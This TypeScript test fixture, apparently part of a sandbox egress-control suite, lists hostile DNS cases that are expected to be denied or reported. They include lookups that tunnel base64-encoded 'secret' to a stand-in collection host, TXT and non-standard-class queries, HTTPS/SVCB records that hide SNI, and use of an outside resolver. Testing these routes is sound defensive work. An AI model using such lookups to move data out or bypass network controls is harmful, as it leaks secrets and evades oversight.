// Ways out through the resolver.
import { REFUSED } from '../../kit/attack.ts';
import type { HostileCase } from '../../kit/hostile-case.ts';
import { EGRESS } from '../walls/egress.ts';
import { TELLING } from '../walls/telling.ts';
import { denied, told } from './reaching.ts';

const HOST = ['runtime/undeclared-host'];
const RAW = ['runtime/raw-address'];
const PROTOCOL = ['runtime/unknown-protocol'];

export const LOOKUPS: readonly HostileCase[] = [
  denied(
    'a name that carries data',
    'query-name tunnelling',
    ['look_up', 'c2VjcmV0.collect.example.net'],
    HOST,
    EGRESS.grantedNames,
  ),
  denied(
    'a text record of another name',
    'query-name tunnelling',
    ['look_up', 'c2VjcmV0.collect.example.net', 'TXT'],
    HOST,
    EGRESS.grantedNames,
  ),
  told(
    'a name that carries data and is not told of',
    'query-name tunnelling',
    ['look_up', 'c2VjcmV0.collect.example.net'],
    HOST,
    TELLING.names,
    REFUSED,
  ),
  denied(
    'a name that is no host name',
    'query-name tunnelling',
    ['look_up', 'a secret!.example.com'],
    PROTOCOL,
    EGRESS.hostNames,
  ),
  denied(
    'another class',
    'query-name tunnelling',
    ['look_up_chaos', 'api.example.com'],
    PROTOCOL,
    EGRESS.internetClass,
  ),
  denied('more names than a run has', 'query-name tunnelling', ['look_up_many', '1100'], [], EGRESS.nameCap),
  denied(
    'data behind a query',
    'query-name tunnelling',
    ['ask_at_length', 'api.example.com'],
    PROTOCOL,
    EGRESS.querySize,
  ),
  denied('another operation', 'query-name tunnelling', ['update', 'api.example.com'], PROTOCOL, EGRESS.standardQueries),
  denied(
    'what hides SNI',
    'DNS over TCP/HTTPS',
    ['have_record', 'api.example.com', 'HTTPS'],
    [],
    EGRESS.noOtherRecords,
  ),
  denied(
    'what hides SNI, by its older name',
    'DNS over TCP/HTTPS',
    ['have_record', 'api.example.com', 'SVCB'],
    [],
    EGRESS.noOtherRecords,
  ),
  told('noise at the port of DNS', 'query-name tunnelling', ['send_noise'], PROTOCOL, EGRESS.unreadable),
  denied(
    'a second query on a connection',
    'DNS over TCP/HTTPS',
    ['ask_by_stream', 'collect.example.net'],
    HOST,
    EGRESS.grantedNames,
  ),
  denied('a resolver of its own by HTTPS', 'DNS over TCP/HTTPS', ['reach', '1.1.1.1', '80'], RAW, EGRESS.rawAddresses),
  denied(
    'a resolver of its own by HTTPS and name',
    'DNS over TCP/HTTPS',
    ['look_up', 'dns.example.net'],
    HOST,
    EGRESS.grantedNames,
  ),
];
